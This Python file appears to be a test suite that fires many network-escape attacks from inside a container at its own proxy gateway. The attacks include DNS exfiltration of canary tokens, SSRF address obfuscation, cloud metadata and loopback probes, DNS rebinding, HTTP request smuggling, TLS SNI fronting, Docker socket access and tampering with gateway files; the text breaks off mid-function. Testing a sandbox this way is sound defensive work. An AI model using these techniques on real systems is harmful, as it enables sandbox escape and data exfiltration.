"""Attacks, as a program: `python3 attempts.py GROUP CONFIGURATION` tries those of a group.

It runs in a container, and has nothing but what is there. It writes a line of JSON for each attack:
its name, whether it got through, and what it saw. Some are seen from outside alone: those say which
word is to be looked for there, in what name servers and APIs were asked.

    proxied     whether the container is ours: a proxy on its loopback, no other network
    world       address of a server for listed.example, other.example and plain.example
    zone, port  address of a name server, and a port with http and with an echo of datagrams
    host        address of the machine, with http on the same port
    api         host and port of the API
    key         the user's, in halves, which is not to be found
"""

from __future__ import annotations

import contextlib
import functools
import ipaddress
import itertools
import json
import os
import re
import secrets
import socket
import ssl
import struct
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final, NamedTuple

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator, Sequence

_SECONDS: Final = 4.0
_PROXY: Final = ("127.0.0.1", 23128)
# As the network spells it.
_ALL_PROTOCOLS: Final = 0x0300
_SOCKETS: Final = Path("/run/pinnace/sockets")
_SEEN: Final = (b"reached the zone", b"reached the recorder", b'{"method": "')
LISTED: Final = "listed.example"
OTHER: Final = "other.example"
PLAIN: Final = "plain.example"


class BlockedError(Exception):
    """An attack did not get through."""


class Attack(NamedTuple):
    """One attack.

    Attributes:
        name: of it.
        group: tried by one call of the program.
        attempt: returns what it saw if it got through, or what is to be looked for outside.
        bare: it is real in a bare container, too; else it is one on the gateway itself.
    """

    name: str
    group: str
    attempt: Callable[[], str]
    bare: bool


class Trace(str):
    """What is to be looked for outside."""

    __slots__ = ()


ATTACKS: Final[list[Attack]] = []
_CONFIG: Final[dict[str, Any]] = {}


def _attack(group: str, *, bare: bool = False) -> Callable[[Callable[[], str]], Callable[[], str]]:
    def note(attempt: Callable[[], str]) -> Callable[[], str]:
        name = attempt.__name__.strip("_").replace("_", "-")
        ATTACKS.append(Attack(name, group, attempt, bare))
        return attempt

    return note


def _word() -> Trace:
    return Trace(f"canary{secrets.token_hex(6)}")


def _received(connection: socket.socket) -> bytes:
    """Return all that comes until the other side ends, or nothing comes for a while."""
    data = b""
    with contextlib.suppress(OSError):
        while chunk := connection.recv(1 << 16):
            data += chunk
            if any(mark in data for mark in _SEEN):
                break
    return data


def _said(address: tuple[str, int], *sent: bytes, seconds: float = _SECONDS) -> bytes:
    """Send one piece after another, each once the one before was answered; return all answers."""
    with socket.create_connection(address, seconds) as connection:
        answers = b""
        for piece in sent:
            connection.sendall(piece)
            if piece is not sent[-1]:
                answers += connection.recv(1 << 16)
        return answers + _received(connection)


def _through(answer: bytes) -> str:
    """Return an answer that only the other side gives.

    Raises:
        BlockedError: it is not one.
    """
    if any(mark in answer for mark in _SEEN):
        return answer[-200:].decode("latin-1")
    raise BlockedError(answer[:80].decode("latin-1"))


def _get(host: str, port: int) -> str:
    return _through(_said((host, port), b"GET / HTTP/1.0\r\nHost: x\r\n\r\n"))


def _asked_proxy(*sent: bytes) -> str:
    return _through(_said(_PROXY, *sent))


def _tunnelled(host: bytes, port: int) -> str:
    """Ask the proxy for a tunnel, and in it for a page."""
    with socket.create_connection(_PROXY, _SECONDS) as connection:
        connection.sendall(b"CONNECT %b:%d HTTP/1.1\r\n\r\n" % (host, port))
        answer = connection.recv(1 << 16)
        if b" 200 " not in answer.partition(b"\r\n")[0]:
            raise BlockedError(answer[:60].decode("latin-1"))
        connection.sendall(b"GET / HTTP/1.0\r\nHost: x\r\n\r\n")
        return _through(_received(connection))


def _proxied_status(host: bytes, port: int) -> bytes:
    sent = b"CONNECT %b:%d HTTP/1.1\r\n\r\n" % (host, port)
    with socket.create_connection(_PROXY, _SECONDS) as connection:
        connection.sendall(sent)
        return connection.recv(1 << 16)[9:12]


def _refused_both(host: str, port: int) -> str:
    """Ask the proxy for a tunnel and for a page; either is through."""
    spelled = host.encode()
    try:
        return _tunnelled(spelled, port)
    except (BlockedError, OSError):
        return _asked_proxy(b"GET http://%b:%d/ HTTP/1.0\r\n\r\n" % (spelled, port))


# Names.


def _question(name: str) -> bytes:
    labels = b"".join(bytes([len(one)]) + one.encode() for one in name.split("."))
    return b"\x12\x34\x01\x00\x00\x01" + bytes(6) + labels + b"\0\0\1\0\1"


def _ask_by_udp(server: str, name: str = OTHER) -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(_SECONDS)
        connection.sendto(_question(name), (server, 53))
        return f"{len(connection.recv(512))} bytes of an answer"


@_attack("network", bare=True)
def _dns_by_the_resolver() -> str:
    return str(socket.getaddrinfo(OTHER, 443)[0][4])


@_attack("network", bare=True)
def _dns_exfiltration_by_the_resolver() -> str:
    word = _word()
    with contextlib.suppress(OSError):
        socket.getaddrinfo(f"{word}.zone.example", 443)
    return word


@_attack("network", bare=True)
def _dns_by_udp_to_a_server() -> str:
    return _ask_by_udp(_CONFIG["zone"])


@_attack("network", bare=True)
def _dns_by_tcp_to_a_server() -> str:
    question = _question(OTHER)
    with socket.create_connection((_CONFIG["zone"], 53), _SECONDS) as connection:
        connection.sendall(struct.pack("!H", len(question)) + question)
        return f"{len(connection.recv(512))} bytes of an answer"


@_attack("network", bare=True)
def _dns_by_the_engines_resolver() -> str:
    return _ask_by_udp("127.0.0.11")


@_attack("network", bare=True)
def _dns_by_what_resolv_conf_names() -> str:
    servers = re.findall(r"(?m)^nameserver (\S+)", Path("/etc/resolv.conf").read_text())
    if not servers:
        raise BlockedError("it names none")
    return _ask_by_udp(servers[0])


def _exfiltrated(how: Callable[[bytes], bytes]) -> Trace:
    """Let the proxy see a name, which it is not to look up."""
    word = _word()
    with contextlib.suppress(OSError):
        _said(_PROXY, how(f"{word}.zone.example".encode()), seconds=2)
    return word


@_attack("network")
def _dns_exfiltration_by_a_tunnel() -> str:
    return _exfiltrated(lambda name: b"CONNECT %b:443 HTTP/1.1\r\n\r\n" % name)


@_attack("network")
def _dns_exfiltration_by_a_page() -> str:
    return _exfiltrated(lambda name: b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (name, name))


@_attack("network")
def _dns_exfiltration_by_a_host_header() -> str:
    return _exfiltrated(
        lambda name: b"GET http://plain.example/ HTTP/1.1\r\nHost: %b\r\n\r\n" % name
    )


@_attack("network")
def _dns_exfiltration_by_a_path_alone() -> str:
    return _exfiltrated(lambda name: b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n" % name)


@_attack("network")
def _dns_exfiltration_by_other_schemes() -> str:
    word = _word()
    for scheme in ("ftp", "urn", "gopher", "wais", "whois", "cache_object", "https", "coap"):
        for url in (f"{scheme}://{word}.zone.example/", f"{scheme}:{word}.zone.example:x"):
            with contextlib.suppress(OSError):
                _said(_PROXY, f"GET {url} HTTP/1.0\r\n\r\n".encode(), seconds=0.4)
    return word


@_attack("network")
def _dns_exfiltration_by_the_name_in_a_tunnel() -> str:
    word = _word()
    with contextlib.suppress(OSError, BlockedError):
        _fronted(f"{word}.zone.example")
    return word


@_attack("network")
def _dns_exfiltration_by_the_api() -> str:
    word = _word()
    host, port = _CONFIG["api"]
    for line in (b"GET / HTTP/1.1", b"GET http://%b.zone.example/ HTTP/1.1" % word.encode()):
        with contextlib.suppress(OSError):
            _said(
                (host, port), line + b"\r\nHost: %b.zone.example\r\n\r\n" % word.encode(), seconds=1
            )
    return word


# Without the proxy.


@_attack("network", bare=True)
def _tcp_to_an_address() -> str:
    return _get(_CONFIG["world"], 80)


@_attack("network", bare=True)
def _tcp_to_another_container_by_name() -> str:
    return _get(PLAIN, 80)


@_attack("network", bare=True)
def _tcp_to_the_host() -> str:
    return _get(_CONFIG["host"], _CONFIG["port"])


@_attack("network", bare=True)
def _tcp_to_the_host_by_its_name() -> str:
    return _get("host.docker.internal", _CONFIG["port"])


@_attack("network", bare=True)
def _tcp_to_the_default_gateway() -> str:
    for line in Path("/proc/net/route").read_text().splitlines()[1:]:
        fields = line.split()
        if fields[1] == "00000000":
            address = socket.inet_ntoa(struct.pack("<L", int(fields[2], 16)))
            return _get(address, _CONFIG["port"])
    raise BlockedError("there is none")


@_attack("network", bare=True)
def _udp_to_an_address() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.settimeout(_SECONDS)
        connection.sendto(b"hello", (_CONFIG["zone"], _CONFIG["port"]))
        return str(connection.recv(16))


@_attack("network", bare=True)
def _udp_to_all() -> str:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as connection:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        return f"{connection.sendto(b'hello', ('255.255.255.255', 9))} bytes sent"


def _pinged(kind: socket.SocketKind) -> str:
    with socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP) as connection:
        connection.settimeout(_SECONDS)
        body = b"\x08\x00\xf7\xfd\x00\x01\x00\x01"
        connection.sendto(body, (_CONFIG["world"], 0))
        return f"{len(connection.recv(512))} bytes came back"


@_attack("network", bare=True)
def _icmp_by_a_datagram_socket() -> str:
    return _pinged(socket.SOCK_DGRAM)


@_attack("network", bare=True)
def _icmp_by_a_raw_socket() -> str:
    return _pinged(socket.SOCK_RAW)


@_attack("network", bare=True)
def _packet_socket() -> str:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, _ALL_PROTOCOLS) as connection:
        return str(connection.getsockname())


@_attack("network", bare=True)
def _interfaces_other_than_loopback() -> str:
    names = sorted({name for _, name in socket.if_nameindex()} - {"lo"})
    if not any(name.startswith("eth") for name in names):
        raise BlockedError(str(names))
    return str(names)


@_attack("network")
def _ipv6_by_addresses() -> str:
    seen = []
    for address in ("fd00::1", "fe80::1", "2001:db8::1", "::ffff:" + _CONFIG["world"]):
        try:
            return _get(address, 80)
        except (OSError, BlockedError) as error:
            seen.append(str(error))
    raise BlockedError(str(seen))


@_attack("network", bare=True)
def _ipv6_socket_to_an_ipv4_address() -> str:
    return _get(f"::ffff:{_CONFIG['world']}", 80)


@_attack("network")
def _vsock_to_the_host() -> str:
    with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as connection:
        return str(connection.fileno())


@_attack("network")
def _socket_for_the_kernels_cryptography() -> str:
    with socket.socket(socket.AF_ALG, socket.SOCK_SEQPACKET) as connection:
        connection.bind(("hash", "sha256"))
        return "bound"


@_attack("network")
def _new_network_namespace() -> str:
    os.unshare(os.CLONE_NEWUSER | os.CLONE_NEWNET)  # type: ignore[attr-defined,unused-ignore]
    return "unshared"


@_attack("network")
def _abstract_sockets_of_others() -> str:
    found = re.findall(r"@\S+", Path("/proc/net/unix").read_text())
    if not found:
        raise BlockedError("none")
    return str(found)


@_attack("network")
def _socket_of_the_engine() -> str:
    for path in (
        "/var/run/docker.sock",
        "/run/podman/podman.sock",
        "/run/containerd/containerd.sock",
    ):
        with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as connection:
            connection.connect(path)
            return path
    raise BlockedError("none")


# Addresses, in all spellings.


def _spellings() -> Iterator[tuple[str, Callable[[str], str], bool]]:
    def parts(address: str) -> list[int]:
        return [*ipaddress.IPv4Address(address).packed]

    def number(address: str) -> int:
        return int(ipaddress.IPv4Address(address))

    yield "dotted", lambda a: a, True
    yield "decimal", lambda a: str(number(a)), True
    yield "hexadecimal", lambda a: hex(number(a)), True
    yield "octal", lambda a: f"0{number(a):o}", True
    yield "dotted hexadecimal", lambda a: ".".join(map(hex, parts(a))), True
    yield "dotted octal", lambda a: ".".join(f"0{one:o}" for one in parts(a)), True
    yield "octal with zeros", lambda a: ".".join(f"000{one:o}" for one in parts(a)), True
    yield "mixed", lambda a: "{}.0x{:x}.0{:o}.{}".format(*parts(a)), True
    yield "two parts", lambda a: f"{parts(a)[0]}.{number(a) & 0xFFFFFF}", True
    yield "three parts", lambda a: ".".join(map(str, (*parts(a)[:2], number(a) & 0xFFFF))), True
    yield "mapped", lambda a: f"[::ffff:{a}]", True
    yield (
        "mapped hexadecimal",
        lambda a: f"[::ffff:{number(a) >> 16:x}:{number(a) & 65535:x}]",
        True,
    )
    yield "mapped in full", lambda a: f"[0:0:0:0:0:ffff:{a}]", True
    yield "brackets", lambda a: f"[{a}]", False
    yield "compatible", lambda a: f"[::{a}]", False
    yield "translated", lambda a: f"[64:ff9b::{a}]", False
    yield "mapped without brackets", lambda a: f"::ffff:{a}", False
    yield "trailing dot", lambda a: f"{a}.", False
    yield "two trailing dots", lambda a: f"{a}..", False
    yield "percent-encoded", lambda a: "".join(f"%{ord(one):02x}" for one in a), False
    yield "percent-encoded dots", lambda a: a.replace(".", "%2e"), False
    yield (
        "wide digits",
        lambda a: "".join(chr(ord(o) + 0xFEE0) if o != "." else o for o in a),
        False,
    )
    yield "wide dots", lambda a: a.replace(".", "\u3002"), False
    yield "circled digits", lambda a: a.replace("1", "\u2460").replace("2", "\u2461"), False
    yield "userinfo", lambda a: f"{LISTED}@{a}", False
    yield "userinfo with a port", lambda a: f"{LISTED}:443@{a}", False
    yield "userinfo, percent-encoded", lambda a: f"{LISTED}%40{a}", False
    yield "backslash", lambda a: f"{a}\\.{LISTED}", False
    yield "zone index", lambda a: f"[::ffff:{a}%25lo]", False
    yield "plus sign", lambda a: f"+{number(a)}", False
    yield "service of names", lambda a: f"{a}.nip.example", False


def _spell(name: str, spelling: Callable[[str], str], *, bare: bool) -> None:
    def attempt() -> str:
        # Nothing else than the zone listens on that port: what answers was reached by its address.
        spelled, port = spelling(_CONFIG["zone"]), _CONFIG["port"]
        if not _CONFIG["proxied"]:
            return _get(spelled.strip("[]"), port)
        return _refused_both(spelled, port)

    ATTACKS.append(Attack(f"address, {name}", "network", attempt, bare))


for _one in _spellings():
    _spell(_one[0], _one[1], bare=_one[2])


def _own(name: str, host: str) -> None:
    """Try ports of the gateway itself, which answer to nobody but itself."""

    def attempt() -> str:
        seen = []
        for port in (3128, 3129, 443):
            spelled = host.encode()
            for sent in (
                b"CONNECT %b:%d HTTP/1.1\r\n\r\n" % (spelled, port),
                b"GET http://%b:%d/ HTTP/1.1\r\nHost: x\r\n\r\n" % (spelled, port),
            ):
                # On a busy machine, it takes its time.
                answer = _said(_PROXY, sent, seconds=1) or _said(_PROXY, sent, seconds=20)
                status = answer[9:12]
                if status not in {b"403", b"400"}:
                    raise AssertionError(answer[:100])
                seen.append(status)
        raise BlockedError(str(seen))

    def told() -> str:
        try:
            return attempt()
        except AssertionError as error:
            return str(error)

    ATTACKS.append(Attack(f"the gateway itself, {name}", "network", told, bare=False))


for _name, _host in {
    "loopback": "127.0.0.1",
    "short loopback": "127.1",
    "zero": "0",
    "zeros": "0.0.0.0",  # noqa: S104 (asked for)
    "name": "localhost",
    "ipv6": "[::1]",
    "ipv6 unspecified": "[::]",
    "mapped": "[::ffff:127.0.0.1]",
    "number": "2130706433",
    "its own name": "gateway",
    "metadata": "169.254.169.254",
    "metadata by number": "2852039166",
    "metadata, mapped": "[::ffff:169.254.169.254]",
    "metadata, ipv6": "[fd00:ec2::254]",
}.items():
    _own(_name, _host)


# Names that are on the list, and lead where nothing is allowed.


def _leads(name: str, *, bare: bool = True, port: int = 0) -> None:
    def attempt() -> str:
        host, chosen = f"{name}.zone.example", port or _CONFIG["port"]
        if not _CONFIG["proxied"]:
            return _get(host, chosen)
        seen = [_proxied_status(host.encode(), 443)]
        if seen[0] in {b"400", b"403", b"503"}:
            return _refused_both(host, chosen)
        return f"a tunnel at port 443: {seen}"

    ATTACKS.append(Attack(f"listed name, {name}", "network", attempt, bare))


for _name in ("private", "public-and-private", "mapped-private"):
    _leads(_name)
for _name in ("metadata", "metadata6", "loopback", "loopback6", "unspecified", "link", "unique"):
    _leads(_name, bare=False)
_leads("loopback-at-the-second-proxy", bare=False, port=3129)


@_attack("network", bare=True)
def _rebinding() -> str:
    """A name that leads to the zone, and at each second question to the host."""
    host, port = "rebind.zone.example", _CONFIG["port"]
    for _ in range(12):
        answer = (
            _said(_PROXY, f"GET http://{host}:{port}/ HTTP/1.0\r\n\r\n".encode())
            if _CONFIG["proxied"]
            else _said((host, port), b"GET / HTTP/1.0\r\n\r\n")
        )
        if b"reached the recorder" in answer:
            return "reached the host"
    raise BlockedError("never the host")


@_attack("network", bare=True)
def _rebinding_of_a_tunnel() -> str:
    host, port = "rebind-tunnel.zone.example", _CONFIG["port"]
    ask = b"GET / HTTP/1.0\r\n\r\n"
    for _ in range(12):
        opened = f"CONNECT {host}:{port} HTTP/1.1\r\n\r\n".encode()
        with contextlib.suppress(OSError):
            answer = _said(_PROXY, opened, ask) if _CONFIG["proxied"] else _said((host, port), ask)
            if b"reached the recorder" in answer:
                return "reached the host"
    raise BlockedError("never the host")


# Tricks with what a proxy is asked.


def _trick(name: str, *sent: bytes) -> None:
    def attempt() -> str:
        answer = _asked_proxy(*sent)
        if '"Host": "plain.example"' in answer:
            raise BlockedError("it was taken for the listed name, and went there")
        return answer

    ATTACKS.append(Attack(f"proxy, {name}", "network", attempt, bare=False))


_ASK: Final = b"GET / HTTP/1.0\r\nHost: other.example\r\n\r\n"
for _name, _target in {
    "another port": b"listed.example:80",
    "no port": b"other.example",
    "a port that wraps around": b"listed.example:65616",
    "a negative port": b"listed.example:-65456",
    "two ports": b"listed.example:443:80",
    "an evil host behind an at sign": b"listed.example:443@other.example:80",
    "an evil host before an at sign": b"other.example:80@listed.example:443",
    "NUL before a listed name": b"other.example\0.below.example:80",
    "NUL behind a listed name": b"listed.example\0other.example:80",
    "encoded NUL": b"other.example%00.below.example:80",
    "space in a name": b"other.example .below.example:80",
    "encoded space in a name": b"other.example%20.below.example:80",
    "tab in a name": b"other.example\t.below.example:80",
    "number sign in a name": b"other.example#.below.example:80",
    "question mark in a name": b"other.example?.below.example:80",
    "slash in a name": b"other.example/.below.example:80",
    "encoded slash in a name": b"other.example%2f.below.example:80",
    "backslash in a name": b"other.example\\.below.example:80",
    "star as a name": b"*:80",
    "pattern as a name": b"*.below.example:80",
    "brackets as a pattern": b"[o]ther.example:80",
    "trailing dot": b"other.example.:80",
    "letter in another script": "\u043ether.example:80".encode(),
    "wide letters": "\uff4fther.example:80".encode(),
    "soft hyphen": "oth\u00ader.example:80".encode(),
    "carriage return in a name": b"listed.example:443\rother.example:80",
    "second request line": b"other.example:80 HTTP/1.1\r\nCONNECT listed.example:443",
    "scheme in a tunnel": b"http://other.example:80",
    "the listed name's suffix": b"otherlisted.example:80",
}.items():
    _trick(_name, b"CONNECT " + _target + b" HTTP/1.1\r\n\r\n", _ASK)

for _name, _head in {
    "two Host headers": b"GET http://other.example/ HTTP/1.1\r\n"
    b"Host: plain.example\r\nHost: other.example",
    "Host of a listed name": b"GET http://other.example/ HTTP/1.1\r\nHost: plain.example",
    "a path alone": b"GET / HTTP/1.1\r\nHost: plain.example",
    "userinfo in a URL": b"GET http://plain.example@other.example/ HTTP/1.1\r\nHost: plain.example",
    "backslash in a URL": b"GET http://other.example\\@plain.example/ HTTP/1.1\r\nHost: x",
    "tab in a URL": b"GET http://plain.example\t@other.example/ HTTP/1.1\r\nHost: x",
    "https in a URL": b"GET https://other.example/ HTTP/1.1\r\nHost: listed.example",
    "ftp in a URL": b"GET ftp://plain.example:80/ HTTP/1.1\r\nHost: plain.example",
    "own peer's port": b"GET http://localhost:3129/ HTTP/1.1\r\nHost: plain.example",
    "HTTP 0.9": b"GET http://other.example/",
    "purge": b"PURGE http://other.example/ HTTP/1.1\r\nHost: plain.example",
    "an unlisted port of a page": b"GET http://plain.example:8080/ HTTP/1.1\r\nHost: plain.example",
    "a page at a port for tunnels": b"GET http://listed.example:80/ HTTP/1.1\r\nHost: x",
}.items():
    _trick(_name, _head + b"\r\n\r\n")


def _fronting(name: str, head: bytes, body: bytes = b"") -> None:
    """Ask for a listed name; the server is not to be told another one."""

    def attempt() -> str:
        word = _word()
        mark = word.encode()
        with contextlib.suppress(OSError):
            _said(_PROXY, head.replace(b"WORD", mark) + b"\r\n\r\n" + body.replace(b"WORD", mark))
        return word

    ATTACKS.append(Attack(f"fronting, {name}", "network", attempt, bare=False))


_SMUGGLED: Final = b"GET /WORD HTTP/1.1\r\nHost: other.example\r\n\r\n"
_PAGE: Final = b"POST http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\n"
for _name, _head, _body in (
    ("Host beside a URL", b"GET http://plain.example/ HTTP/1.1\r\nHost: WORD.example", b""),
    ("Host twice", b"GET http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\nHost: WORD", b""),
    ("Host with a space", b"GET http://plain.example/ HTTP/1.1\r\nHost : WORD.example", b""),
    ("Host folded", b"GET http://plain.example/ HTTP/1.1\r\nHost: plain.example\r\n WORD", b""),
    (
        "length beside chunks",
        _PAGE + b"Content-Length: 6\r\nTransfer-Encoding: chunked",
        b"0\r\n\r\n" + _SMUGGLED,
    ),
    (
        "chunks beside length",
        _PAGE + b"Transfer-Encoding: chunked\r\nContent-Length: 200",
        b"0\r\n\r\n" + _SMUGGLED,
    ),
    ("two lengths", _PAGE + b"Content-Length: 0\r\nContent-Length: 60", _SMUGGLED),
    ("a length with a sign", _PAGE + b"Content-Length: +0", _SMUGGLED),
    (
        "an encoding with a space",
        _PAGE + b"Transfer-Encoding : chunked\r\nContent-Length: 5",
        b"0\r\n\r\n" + _SMUGGLED,
    ),
    ("an unknown encoding", _PAGE + b"Transfer-Encoding: xchunked", b"0\r\n\r\n" + _SMUGGLED),
    (
        "an encoding behind a tab",
        _PAGE + b"Transfer-Encoding:\x0bchunked",
        b"0\r\n\r\n" + _SMUGGLED,
    ),
    (
        "a body of no length",
        b"GET http://plain.example/ HTTP/1.1\r\nHost: plain.example",
        _SMUGGLED,
    ),
):
    _fronting(_name, _head, _body)


# Another name in a tunnel.


def _hello(name: str | None) -> bytes:
    """Return what a TLS client says first."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    client = context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name)
    with contextlib.suppress(ssl.SSLWantReadError):
        client.do_handshake()
    return outgoing.read()


def _shake_hands(
    connection: socket.socket, hello: bytes, *, pause: float = 0, agreed: bool = False
) -> None:
    """See that a TLS server answers; `agreed`: and takes it.

    Raises:
        BlockedError: it does not.
    """
    for piece in (hello[i : i + 60] for i in range(0, len(hello), 60)) if pause else (hello,):
        connection.sendall(piece)
        if pause:
            import time  # noqa: PLC0415

            time.sleep(pause)
    answer = connection.recv(1 << 16)
    # Nobody but the server says so: what it does not understand has come there.
    if _CONFIG["proxied"] and answer[:1] == b"\x15" and not agreed:
        return
    # A handshake record, with a ServerHello in it; alerts are others.
    if answer[:1] != b"\x16" or answer[5:6] != b"\x02":
        raise BlockedError(answer[:20].hex())


def _fronted(
    name: str | None,
    change: Callable[[bytes], bytes] = lambda hello: hello,
    pause: float = 0,
    *,
    agreed: bool = False,
) -> str:
    """Open a tunnel to a listed name, and say another one in it."""
    address = _PROXY if _CONFIG["proxied"] else (_CONFIG["world"], 443)
    with socket.create_connection(address, _SECONDS) as connection:
        if _CONFIG["proxied"]:
            connection.sendall(b"CONNECT listed.example:443 HTTP/1.1\r\n\r\n")
            if b" 200 " not in connection.recv(1 << 16):
                raise AssertionError("no tunnel to a listed name")
        _shake_hands(connection, change(_hello(name)), pause=pause, agreed=agreed)
        return "a TLS server answers to another name"


def _in_records(size: int, version: bytes = b"\x03\x01") -> Callable[[bytes], bytes]:
    """Cut a hello into records of a size."""

    def change(hello: bytes) -> bytes:
        whole = hello[5:]
        pieces = [whole[i : i + size] for i in range(0, len(whole), size)]
        return b"".join(b"\x16" + version + struct.pack("!H", len(one)) + one for one in pieces)

    return change


def _renamed(hello: bytes, name: bytes) -> bytes:
    """Put a name that no client would say into a hello that holds one of its length."""
    return hello.replace(_stand_in(name).encode(), name)


def _stand_in(name: bytes) -> str:
    return "x" * len(name)


def _front(name: str, sni: str | None, change: Callable[[bytes], bytes], pause: float = 0) -> None:
    def attempt() -> str:
        return _fronted(sni, change, pause)

    ATTACKS.append(Attack(f"tunnel, {name}", "network", attempt, bare=True))


for _name, _sni, _change in (
    ("another name", OTHER, lambda hello: hello),
    ("no name", None, lambda hello: hello),
    ("a name with a listed one below it", f"{LISTED}.other.example", lambda hello: hello),
    ("an address as a name", "192.0.2.1", lambda hello: hello),
    ("a name in small records", OTHER, _in_records(40)),
    ("a name in records of one byte", OTHER, _in_records(1)),
    ("a record of an old version", OTHER, _in_records(1 << 14, b"\x03\x00")),
    ("a record of a new version", OTHER, _in_records(1 << 14, b"\x03\x04")),
    ("a record of an unknown version", OTHER, _in_records(1 << 14, b"\x03\x7f")),
):
    _front(_name, _sni, _change)
for _name, _change in {
    "an empty record before a name": lambda hello: b"\x16\x03\x01\0\0" + hello,
    "a message of an unknown version": lambda hello: hello[:9] + b"\x7f\x0f" + hello[11:],
}.items():
    _front(_name, OTHER, _change)
for _name, _change in {
    "an alert before a name": lambda hello: b"\x15\x03\x01\0\2\1\x5a" + hello,
    "a heartbeat before a name": lambda hello: b"\x18\x03\x01\0\3\1\0\0" + hello,
    "another record before a name": lambda hello: b"\x14\x03\x01\0\1\1" + hello,
    "a message of an old version": lambda hello: hello[:9] + b"\x02\0" + hello[11:],
}.items():
    _front(_name, OTHER, _change)
    # Not every server takes these.
    ATTACKS[-1] = ATTACKS[-1]._replace(bare=False)


def _names(*names: bytes) -> bytes:
    """Return an extension that says these names (RFC 6066, 3)."""
    listed = b"".join(b"\0" + struct.pack("!H", len(one)) + one for one in names)
    body = struct.pack("!H", len(listed)) + listed
    return b"\0\0" + struct.pack("!H", len(body)) + body


def _with_extensions(before: bytes, behind: bytes) -> Callable[[bytes], bytes]:
    """Put extensions around those of a hello without a name."""

    def change(hello: bytes) -> bytes:
        place = 5 + 4 + 2 + 32
        place += 1 + hello[place]
        place += 2 + int.from_bytes(hello[place : place + 2], "big")
        place += 1 + hello[place]
        extensions = before + hello[place + 2 :] + behind
        body = hello[9:place] + struct.pack("!H", len(extensions)) + extensions
        message = hello[5:6] + struct.pack("!I", len(body))[1:] + body
        return hello[:3] + struct.pack("!H", len(message)) + message

    return change


_LISTED_NAME: Final = LISTED.encode()
_OTHER_NAME: Final = OTHER.encode()
for _name, _before, _behind in (
    ("two names, the listed one first", _names(_LISTED_NAME, _OTHER_NAME), b""),
    ("two names, the listed one last", _names(_OTHER_NAME, _LISTED_NAME), b""),
    ("names twice, the listed one first", _names(_LISTED_NAME) + _names(_OTHER_NAME), b""),
    ("names twice, the listed one last", _names(_OTHER_NAME) + _names(_LISTED_NAME), b""),
    ("names around the rest, the listed one first", _names(_LISTED_NAME), _names(_OTHER_NAME)),
    ("names around the rest, the listed one last", _names(_OTHER_NAME), _names(_LISTED_NAME)),
):
    # What looks into tunnels goes by one of the names, so it gets to the server of the one that was
    # asked for; that has to refuse it (RFC 6066, 3; RFC 8446, 4.2), and OpenSSL does.
    _fronting_twice = functools.partial(
        _fronted, None, _with_extensions(_before, _behind), agreed=True
    )
    ATTACKS.append(Attack(f"tunnel, {_name}", "network", _fronting_twice, bare=False))
# What looks into tunnels asks a program about names, in lines of words.
for _name, _said_name in {
    "a name twice": b"other.example other.example",
    "a name twice, with a tab": b"other.example\tother.example",
    "a name with a question behind it": b"other.example other.example\n9 a",
}.items():
    _front(_name, _stand_in(_said_name), functools.partial(_renamed, name=_said_name))
_front("a name in slow pieces", OTHER, lambda hello: hello, 0.05)


# What lies in the gateway.


@_attack("network")
def _cache_manager_of_the_proxy() -> str:
    for url, host in itertools.product(
        (
            "/squid-internal-mgr/menu",
            "http://gateway/squid-internal-mgr/info",
            "http://gateway:3128/squid-internal-mgr/config",
            "http://127.0.0.1:3128/squid-internal-mgr/info",
            "http://localhost:3129/squid-internal-mgr/info",
            "http://plain.example/squid-internal-mgr/info",
            "cache_object://localhost/info",
            "cache_object://gateway/config@",
        ),
        ("gateway", "localhost", PLAIN),
    ):
        answer = _said(_PROXY, f"GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode(), seconds=0.5)
        if b" 200 " in answer[:20] and b'"method"' not in answer:
            return answer[:100].decode("latin-1")
    raise BlockedError("all refused")


@_attack("network")
def _tracing_through_the_proxy() -> str:
    sent = b"TRACE http://gateway/ HTTP/1.1\r\nHost: gateway\r\nMax-Forwards: 0\r\n\r\n"
    answer = _said(_PROXY, sent, seconds=1)
    if b" 200 " not in answer[:20]:
        raise BlockedError(answer[:40].decode("latin-1"))
    return answer.decode("latin-1")


def _write(name: str, attempt: Callable[[], object]) -> None:
    def told() -> str:
        return f"done: {attempt()}"

    ATTACKS.append(Attack(f"takeover, {name}", "network", told, bare=False))


def _put_a_socket() -> None:
    with socket.socket(socket.AF_UNIX) as made:
        made.bind(str(_SOCKETS / "new.sock"))


_SOCKET: Final = _SOCKETS / "egress.sock"
_TAKEOVERS: Final[dict[str, Callable[[], object]]] = {
    "remove a socket": _SOCKET.unlink,
    "rename a socket": lambda: _SOCKET.rename(_SOCKETS / "other.sock"),
    "change a socket's mode": lambda: _SOCKET.chmod(0o600),
    "put a socket": _put_a_socket,
    "put a file": lambda: (_SOCKETS / "new").write_text("x"),
    "change what runs": lambda: os.truncate(_SOCKETS / "connect", 0),
    "change how ssh goes": lambda: os.truncate("/etc/ssh/ssh_config.d/pinnace.conf", 0),
    "link out of the directory": lambda: (_SOCKETS / "link").symlink_to("/etc"),
    "read the configuration": Path("/etc/pinnace/haproxy.cfg").read_text,
    "read the host's services": lambda: next(Path("/run/pinnace/host").iterdir()),
    "read beside the directory": (_SOCKETS / "../config/haproxy.cfg").read_text,
    "read the gateway's logs": lambda: next(Path("/var/log/pinnace").iterdir()),
}
for _what, _how in _TAKEOVERS.items():
    _write(_what, _how)


@_attack("network")
def _commands_to_haproxy() -> str:
    host, port = _CONFIG["api"]
